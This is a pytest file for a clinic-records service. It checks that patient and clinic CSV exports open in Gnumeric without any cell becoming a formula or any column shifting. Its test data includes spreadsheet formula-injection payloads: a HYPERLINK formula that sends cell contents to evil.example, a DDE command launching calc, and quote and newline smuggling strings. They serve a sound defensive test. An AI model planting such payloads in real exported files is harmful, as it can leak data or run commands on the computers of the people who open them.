"""A real spreadsheet program opens the files of an export: no cell is a formula and nothing is shifted (E3)."""

import io
import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest

from service.domain.exports import clinic_zip, export_columns, history_zip
from service.domain.exports.history_tables import History
from service.storage.models import Doctor, Message, Patient
from tests import patience
from tests.house import House, at

GNUMERIC = "{http://www.gnumeric.org/v10.dtd}"
TEXTS = ("visit_type", "symptoms", "diagnosis", "treatment", "prescription", "notes")
NASTY = [
    *(f"{blanks}{sign}1+1" for sign in "=+-@＝＋－＠" for blanks in ("", " ", "\t", "\n", "\u3000")),
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '",=1+1',
    '"\r\n=1+1,"',
    "'=1+1",
    'a,b;c\td\ne"f"',
    "\r=1",
    "名前, 🙂 «ü» \u202e",
    "TRUE",
    "",
]
pytestmark = pytest.mark.foreign
Open = Callable[[str], list[list[str]]]


@pytest.fixture
def opened(tmp_path: Path) -> Open:
    """Opens a CSV in Gnumeric; returns its rows. It fails when a cell is a formula."""
    program = shutil.which("ssconvert")
    if program is None:
        needed = "needs ssconvert, of Debian's gnumeric"
        if os.environ.get("ROUNDS_TEST_NOTHING_SKIPPED"):
            pytest.fail(needed)
        pytest.skip(needed)

    def open_it(text: str) -> list[list[str]]:
        source, target = tmp_path / "sheet.csv", tmp_path / "sheet.xml"
        source.write_text(text, encoding="utf-8", newline="")
        kinds = ["--import-type=Gnumeric_stf:stf_csvtab", "--import-encoding=UTF-8"]
        line = [program, *kinds, "--export-type=Gnumeric_XmlIO:sax:0", str(source), str(target)]
        subprocess.run(line, check=True, capture_output=True, timeout=patience.SECONDS)
        cells = ElementTree.parse(target).iter(f"{GNUMERIC}Cell")
        rows: dict[int, dict[int, str]] = {}
        for cell in cells:
            assert cell.get("ValueType"), f"a formula: {cell.text!r}"  # formulas have none
            assert cell.get("ExprID") is None
            rows.setdefault(int(cell.get("Row", "")), {})[int(cell.get("Col", ""))] = cell.text or ""
        width = max(max(row) for row in rows.values()) + 1
        return [[rows.get(line, {}).get(place, "") for place in range(width)] for line in range(max(rows) + 1)]

    return open_it


@pytest.fixture
def files(house: House) -> dict[str, str]:
    """The CSV files of a patient's zip, and of the whole clinic's, with every nasty text in every column."""
    doctors = {text: house.user("doctor", f"d{n}@clinic.example", f"Dr {n}").doctor_id for n, text in enumerate(NASTY)}
    patient = house.patient("Eve")
    with house.writing() as session:
        session.get_one(Patient, patient).name = NASTY[0]
        for text, doctor in doctors.items():
            session.get_one(Doctor, doctor).name = session.get_one(Doctor, doctor).department = text
    for number, (text, doctor) in enumerate(doctors.items()):
        start = at(f"2026-0{1 + number // 28}-{1 + number % 28:02} 10:00")
        house.treated(doctor, patient, start, **dict.fromkeys(TEXTS, text))
        visit = house.visit(doctor, patient, start.replace(year=2027), reason=text, cancellation_reason=text)
        with house.writing() as session:
            message = {"appointment_id": visit, "patient_id": patient, "starts_at": start, "due_at": start}
            words = {"rule": "daily_reminder", "channel": "email", "subject": text, "body": text, "recipient": text}
            session.add(Message(**message, **words, lease_until=start, created_at=start))
    tables, clinic = export_columns.chosen(visits=True, messages=True), house.settings.clinic
    whole, all_of_it = io.BytesIO(), io.BytesIO()
    with house.reading() as session:
        history_zip.write(session, History(patient, tables, clinic), whole)
        clinic_zip.write(session, clinic, all_of_it)
    found: dict[str, str] = {}
    for target in (whole, all_of_it):
        with ZipFile(target) as made:
            found |= {name: made.read(name).decode() for name in made.namelist() if name.endswith(".csv")}
    return {name if "clinic-" in name else name.partition("/")[2]: text for name, text in found.items()}


def plain(text: str) -> str:
    """What a reader sees of a cell: without the guard, and however the program breaks lines."""
    return " ".join(text.removeprefix("'").split())


def test_e3_no_cell_is_a_formula_and_nothing_is_shifted(files: dict[str, str], opened: Open) -> None:
    expected = sorted(plain(text) for text in NASTY)
    for table, first, last in (("treatments", 4, 9), ("visits", 7, 7), ("messages", 8, 9)):
        header, *rows = opened(files[f"{table}.csv"])
        titles = list(getattr(export_columns, table.upper()).titles)
        assert header == titles
        assert len(rows) == len(NASTY) * (2 if table == "visits" else 1)
        blank = [""] * (len(rows) - len(NASTY))  # appointments that took place have no reason
        for place in range(first, last + 1):
            assert sorted(plain(row[place]) for row in rows) == sorted([*expected, *blank]), titles[place]
    header, *rows = opened(files["treatments.csv"])
    assert {plain(row[1]) for row in rows} == {plain(NASTY[0])}
    assert sorted(plain(row[2]) for row in rows) == expected


def test_e3_nor_in_any_table_of_the_whole_clinic(files: dict[str, str], opened: Open) -> None:
    whole = {name: text for name, text in files.items() if "clinic-" in name}
    assert len(whole) == len(clinic_zip.tables())
    for text in whole.values():
        header = opened(text)[0]
        assert all(header)
